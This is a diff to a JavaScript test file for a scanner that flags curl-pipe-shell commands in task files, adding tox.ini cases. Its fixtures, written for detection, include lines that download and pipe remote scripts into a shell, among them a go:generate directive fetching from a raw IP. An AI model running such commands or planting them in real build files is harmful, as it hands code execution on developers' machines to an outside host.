@@ -37,6 +37,10 @@ describe('curl-pipe-shell in scripts and task files', () => {
       expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
     }
     expect(found('Rakefile', [], ['task :setup do', '  sh "curl -s https://get.example.dev/x | bash"', 'end'])).toEqual(['medium Rakefile:3']);
+    // tox hands each line of `commands` to its shell: a task file too.
+    expect(runsAsShell('tox.ini')).toBe(true);
+    expect(found('tox.ini', [], ['[testenv]', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.tooling-mirror.dev/t.sh | bash"', '    pytest'])).toEqual(['medium tox.ini:5']);
+    expect(found('tox.ini', [], ['[testenv]', 'deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
     expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
     // In Go only the directive is a command: a string or comment that mentions one is not.
     expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
